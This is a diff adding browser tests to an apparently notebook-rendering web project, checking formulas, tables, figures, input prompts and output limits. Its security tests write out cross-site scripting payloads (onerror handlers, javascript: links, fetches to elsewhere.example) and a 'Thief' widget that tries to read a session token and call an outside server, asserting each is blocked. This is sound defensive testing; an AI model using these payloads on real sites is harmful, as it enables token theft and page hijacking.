@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import re
 import tempfile
+import threading
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import TYPE_CHECKING
 
@@ -172,3 +174,184 @@ def test_stored_widgets_live_without_a_kernel_and_from_a_file(browser: Browser, 
     expect(cell_under(page, "A widget from elsewhere").locator(".cell_output")).to_contain_text("cannot be shown here")
     watched.assert_clean()
     context.close()
+
+
+@pytest.mark.parametrize("mode", ["stored", "live"])
+def test_formulas_and_markdown_are_set(sink: Watched, mode: str) -> None:
+    latex, markdown = (cell_under(sink.page, heading) for heading in ("LaTeX", "Markdown"))
+    for cell in (latex, markdown):
+        output = run(cell) if mode == "live" else cell.locator(".cell_output")
+        expect(output.locator("mjx-container").first).to_be_visible(timeout=LIVE_MS)
+    expect(markdown.locator(".cell_output strong")).to_have_text("Bold")
+    expect(markdown.locator(".cell_output td").first).to_have_text("1")
+    sink.assert_clean()
+
+
+@pytest.mark.parametrize("mode", ["stored", "live"])
+def test_a_table_is_sorted_by_its_headers_from_the_keyboard(sink: Watched, mode: str) -> None:
+    cell = cell_under(sink.page, "Tables")
+    output = run(cell) if mode == "live" else cell.locator(".cell_output")
+    words = output.locator("tbody td:nth-child(2)")
+    expect(words).to_have_text(["Rome", "Paris", "Oslo"])
+    output.get_by_role("button", name="n", exact=True).focus()
+    sink.page.keyboard.press("Enter")
+    expect(words).to_have_text(["Oslo", "Rome", "Paris"])
+    expect(output.get_by_role("columnheader", name="n", exact=True)).to_have_attribute("aria-sort", "ascending")
+    sink.page.keyboard.press("Enter")
+    expect(words).to_have_text(["Paris", "Rome", "Oslo"])
+    sink.assert_clean()
+
+
+@pytest.mark.parametrize("mode", ["stored", "live"])
+def test_pictures_and_figures(sink: Watched, mode: str) -> None:
+    for heading, selector in (("SVG", "img, svg"), ("PNG", "img"), ("Figures", ".js-plotly-plot .main-svg")):
+        cell = cell_under(sink.page, heading)
+        output = run(cell) if mode == "live" else cell.locator(".cell_output")
+        cell.scroll_into_view_if_needed()
+        expect(output.locator(selector).first).to_be_attached(timeout=LIVE_MS)
+    scripted = cell_under(sink.page, "HTML that brings scripts")
+    output = run(scripted) if mode == "live" else scripted.locator(".cell_output")
+    scripted.scroll_into_view_if_needed()
+    expect(output.frame_locator("iframe").locator("#made")).to_have_text("after", timeout=LIVE_MS)
+    assert sink.page.title() != "1", "the SVG's onload ran"
+    sink.assert_clean()
+
+
+def start_code(page: Page, code: str) -> Locator:
+    """Press Run on the scratch cell and do not wait for its end."""
+    cell = cell_under(page, "Scratch")
+    cell.locator(".cell_input pre").first.click()
+    cell.locator(".cm-content").click()
+    page.keyboard.press("Control+a")
+    page.keyboard.insert_text(code)
+    cell.get_by_role("button", name=re.compile("^Run")).first.click()
+    return cell
+
+
+def test_input_asks_in_the_page(sink: Watched) -> None:
+    page = sink.page
+    code = "import getpass\nname = input('Who? ')\nkey = getpass.getpass('Key: ')\nprint(name.upper(), len(key))"
+    cell = start_code(page, code)
+    field = cell.get_by_label("Who?")
+    expect(field).to_be_visible(timeout=LIVE_MS)
+    field.fill("Ada")
+    page.keyboard.press("Enter")
+    secret = cell.get_by_label("Key:")
+    expect(secret).to_have_attribute("type", "password")
+    secret.fill("hidden")
+    page.keyboard.press("Enter")
+    expect(cell).to_have_attribute("data-state", "live", timeout=LIVE_MS)
+    expect(cell.locator(".cell_output")).to_contain_text("ADA 6")
+    expect(cell.locator(".cell_output")).not_to_contain_text("hidden")
+    sink.assert_clean()
+
+
+def test_interrupt_ends_a_question(sink: Watched) -> None:
+    cell = start_code(sink.page, "input('Well? ')")
+    expect(cell.get_by_label("Well?")).to_be_visible(timeout=LIVE_MS)
+    cell.get_by_role("button", name="Interrupt").click()
+    expect(cell.locator(".cell_output")).to_contain_text("Well? (not answered)", timeout=LIVE_MS)
+    expect(cell.locator(".cell_output")).to_contain_text("Interrupted")
+    expect(run_code(sink.page, "print(6 * 7)")).to_contain_text("42")
+    sink.assert_clean()
+
+
+def test_five_megabytes_of_text_leave_the_page_usable(sink: Watched) -> None:
+    output = run_code(sink.page, "for _ in range(50):\n    print('x' * 100_000)\nprint('the end')")
+    expect(output).to_contain_text("left out", timeout=LIVE_MS)
+    assert len(output.inner_text()) < 600_000
+    expect(run_code(sink.page, "print(6 * 7)")).to_contain_text("42")
+    sink.assert_clean()
+
+
+# Each tries to reach the page, its token or another server; none may leave a trace.
+HOSTILE = {
+    "a script": """HTML('<script>top.document.title = "owned"</script>')""",
+    "an event": """HTML('<img src=x onerror="document.title=`owned`"><svg onload="document.title=`owned`"></svg>')""",
+    "a link": """HTML('<a id=evil href="javascript:document.title=`owned`">go</a>')""",
+    "a refresh": """HTML('<meta http-equiv=refresh content="0;url=https://elsewhere.example"><b>x</b>')""",
+    "a style": """HTML('<style>body { display: none } @import "https://elsewhere.example/a.css";</style><b>x</b>')""",
+    "a drawing": """SVG('<svg xmlns="http://www.w3.org/2000/svg" onload="document.title=`owned`"><g/></svg>')""",
+    "JavaScript": """Javascript('top.document.title = "owned"; fetch("https://elsewhere.example")')""",
+    "Markdown": """Markdown('<img src=x onerror="document.title=`owned`"> [go](javascript:document.title=`owned`)')""",
+    "a formula": r"""Latex(r'$\href{javascript:document.title=1}{x} \style{background:url(https://elsewhere.example)}{y}$')""",
+    "a widget's HTML": """ipywidgets.HTML('<img src=x onerror="document.title=`owned`">')""",
+    "a description": """ipywidgets.IntSlider(description_allow_html=True,
+    description='<img src=x onerror="document.title=`owned`">')""",
+    "a class": """slider = ipywidgets.IntSlider(); slider.layout.margin = '-900px'; slider""",
+}
+
+
+@pytest.mark.parametrize("code", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_outputs_do_not_reach_the_page(sink: Watched, code: str) -> None:
+    page = sink.page
+    title = page.title()
+    output = run_code(page, code)
+    page.wait_for_timeout(300)
+    for link in output.locator("a").all():
+        assert not (link.get_attribute("href") or "").startswith("javascript:")
+    assert page.title() == title
+    assert sink.foreign == []
+    expect(page.locator("h1")).to_be_visible()
+
+
+THIEF = """
+class Thief(anywidget.AnyWidget):
+    _esm = '''
+    async function attempt(name, act) {
+      try { return `${name}: got ${JSON.stringify(await act())}`; } catch (error) { return `${name}: refused`; }
+    }
+    export default { async render({ model, el }) {
+      const tries = await Promise.all([
+        attempt("storage", () => parent.sessionStorage.getItem("tl-reader")),
+        attempt("page", () => parent.document.title),
+        attempt("mint", async () => (await fetch("ADDRESSapi/reader", { method: "POST" })).status),
+        attempt("own", () => sessionStorage.length),
+        attempt("elsewhere", async () => (await fetch("ELSEWHERE")).status),
+        attempt("import", () => import("ELSEWHERE/x.js")),
+      ]);
+      model.set("_esm", "changed"); model.set("layout", "IPY_MODEL_x"); model.save_changes();
+      top.postMessage({ kind: "tl-height", height: 1e9 }, "*");
+      el.textContent = tries.join("; ");
+    } };
+    '''
+Thief()
+"""
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[tuple[str, list[str]]]:
+    """Another server, and what it was asked for: the browser reports requests that its policy stopped too."""
+    asked: list[str] = []
+
+    class Listener(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_error(404)
+
+        def log_message(self, *_: object) -> None:
+            """Say nothing."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Listener) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield f"http://127.0.0.1:{server.server_port}", asked
+        server.shutdown()
+        thread.join()
+
+
+def test_an_anywidget_can_steal_nothing(sink: Watched, kitchen_address: str, elsewhere: tuple[str, list[str]]) -> None:
+    page = sink.page
+    title = page.title()
+    run_code(page, "print('the reader has a token now')")
+    assert page.evaluate("() => sessionStorage.getItem('tl-reader')"), "there is a token to steal"
+    output = run_code(page, THIEF.replace("ADDRESS", kitchen_address).replace("ELSEWHERE", elsewhere[0]))
+    words = output.frame_locator("iframe").locator("#root")
+    expect(words).to_contain_text("import", timeout=LIVE_MS)
+    text = words.inner_text()
+    assert text.count("refused") == 6, text
+    assert page.title() == title
+    assert elsewhere[1] == []
+    box = output.locator("iframe").bounding_box()
+    assert box is not None
+    assert box["height"] <= 6000
